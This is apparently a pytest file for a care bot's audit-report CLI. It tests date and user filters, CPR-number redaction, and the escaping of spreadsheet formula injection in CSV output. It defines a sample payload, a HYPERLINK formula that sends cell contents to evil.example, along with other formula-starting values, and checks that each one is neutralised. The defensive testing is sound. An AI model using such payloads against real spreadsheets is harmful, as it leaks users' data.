"""The audit report: ``python -m bot audit --since DATE [--user-id ID] [--csv]``.

The trail from a day on (in TIMEZONE), optionally only where one user-id acts or is named;
as CSV, no cell can start a spreadsheet formula (OWASP: a single quote in front).
The commands run in-process over the real bot's database, as ``bot.cli`` will run them.
"""

from __future__ import annotations

import argparse
import csv
import io
from datetime import timedelta

import pytest

from bot.cli_records import CliRecordsError, add_commands, prepare
from bot.render.safe_csv import FORMULA_STARTS, csv_cell
from state.roles import Role
from tests.e2e.conftest import report
from tests.harness import Harness, Person

EVIL_UNIT = '=HYPERLINK("http://evil.example/?x="&A1,"Klik her")'
EVIL_USER = "-cmd"


def _parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser()
    add_commands(parser.add_subparsers(dest="command"))
    return parser


async def _run(bot: Harness, capsys: pytest.CaptureFixture[str], *argv: str) -> str:
    """Run one command as ``python -m bot`` would, over the bot's database; return stdout."""
    args = _parser().parse_args(argv)
    work = prepare(args.command, args)
    assert work is not None
    capsys.readouterr()
    assert await work(bot.services) == 0
    return capsys.readouterr().out


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+45 43 30 05 05", "'+45 43 30 05 05"),
        ("-x", "'-x"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Hjemmepleje Nord", "Hjemmepleje Nord"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_a_cell_that_could_start_a_formula_gets_a_quote(value: str, written: str) -> None:
    assert csv_cell(value) == written


async def test_the_csv_trail_neutralises_a_malicious_name(
    bot: Harness, unit: dict[str, Person], capsys: pytest.CaptureFixture[str]
) -> None:
    await bot.services.units.add(EVIL_UNIT, actor="le01")
    await bot.invite(EVIL_USER, "Mallory", Role.SUBSTITUTE, "Hjemmepleje Nord")

    out = await _run(bot, capsys, "audit", "--since", "2026-11-27", "--csv")

    rows = list(csv.reader(io.StringIO(out)))
    assert rows[0] == ["at", "actor", "action", "target", "outcome"]
    assert ["2026-11-27T09:00:00+01:00", "le01", "unit_added", f"'{EVIL_UNIT}", "ok"] in rows
    assert ["2026-11-27T09:00:00+01:00", "cli", "invite", f"'{EVIL_USER}", "ok"] in rows
    for row in rows:
        assert len(row) == 5
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row), row
    assert len(rows) == len(await bot.audit())  # a header, and all but this report's own line
    looked = await bot.audit("audit_report")
    assert [(e.actor, e.target) for e in looked] == [("cli", None)]


async def test_the_trail_of_one_user_and_from_one_day(
    bot: Harness, unit: dict[str, Person], capsys: pytest.CaptureFixture[str]
) -> None:
    await report(unit["anna"], ["Nej"])
    bot.clock.advance(timedelta(days=1))
    await unit["per"].press("✋ Tag sagen")

    everything = await _run(bot, capsys, "audit", "--since", "2026-11-27")
    per = await _run(bot, capsys, "audit", "--since", "2026-11-27", "--user-id", "pl01")
    next_day = await _run(bot, capsys, "audit", "--since", "2026-11-28")
    later = await _run(bot, capsys, "audit", "--since", "2026-12-01")

    assert "2026-11-27 09:00  ab1234  ticket_created  F-0001  phone" in everything.splitlines()
    assert per.splitlines() == [
        "2026-11-27 09:00  cli  invite  pl01  ok",
        f"2026-11-27 09:00  tg:{unit['per'].telegram_id}  bind  pl01  ok",
        "2026-11-28 09:00  pl01  ticket_take  F-0001  ok",
    ]
    assert next_day.splitlines()[0] == "2026-11-28 09:00  pl01  ticket_take  F-0001  ok"
    assert later == "no audit lines from 2026-12-01 on\n"


@pytest.mark.parametrize("since", ["2026-13-01", "27-11-2026", "i går", "2026-11-27T00:00", ""])
def test_a_bad_date_is_one_line_and_exit_2(since: str) -> None:
    with pytest.raises(CliRecordsError) as bad:
        prepare("audit", _parser().parse_args(["audit", "--since", since]))

    assert (str(bad.value), bad.value.code) == (
        f"--since {since!r} is not a date (YYYY-MM-DD)",
        2,
    )


def test_a_cpr_number_is_never_printed_back() -> None:
    for argv in (
        ["audit", "--since", "010190-1234"],
        ["audit", "--since", "2026-11-27", "--user-id", "0101901234"],
    ):
        with pytest.raises(CliRecordsError) as refused:
            prepare("audit", _parser().parse_args(argv))
        assert "0101901234" not in str(refused.value) and "010190" not in str(refused.value)
        assert refused.value.code == 2
